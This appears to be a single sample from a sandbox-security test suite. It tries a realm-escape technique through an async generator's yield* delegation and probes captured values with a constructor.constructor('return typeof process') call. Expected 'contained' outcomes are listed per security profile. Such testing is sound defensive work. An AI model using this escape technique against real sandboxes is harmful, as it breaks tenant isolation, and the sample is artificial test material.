/*---
id: re-asyncgen-yield-03-throw-path
description: "Drives the throw() and return() paths of a yield* delegation whose inner iterator is a host promise source (fetch, import), checking every value surfacing in the generator."
kind: malicious
category: realm-escape
technique: RE-asyncgen-yield
variant: combined
references:
  - "CVE-2026-45411"
unproven: "Not proven against a vulnerable target: the sample tests the advisory's technique, not its published trigger. On vm2 3.9.19, the one vulnerable sandbox the suite installs, it gives no oracle evidence."
expect:
  ultra-secure: { outcome: contained, value: "held" }
  high-security: { outcome: contained, value: "held" }
  tenant-isolated: { outcome: contained, value: "held" }
flags: [async]
---*/
const seen = [];
const inner = {
  [Symbol.asyncIterator]() { return this; },
  next: () => import('dns').then(() => ({ done: true }), (e) => { seen.push(e); return { value: e, done: false }; }),
  throw: (e) => { seen.push(e); return typeof fetch === 'function' ? fetch('https://a.example/') : Promise.reject(new Error('t')); },
};
async function* outer() { try { seen.push(yield* inner); } catch (e) { seen.push(e); } }
const it = outer();
try { seen.push((await it.next()).value); } catch (e) { seen.push(e); }
try { await it.throw(new Error('go')); } catch (e) { seen.push(e); }
for (const v of seen) {
  if (v === null || typeof v !== 'object') continue;
  try { if (v.constructor.constructor('return typeof process')() !== 'undefined') return 'ESCAPED'; } catch (x) {}
}
return 'held';
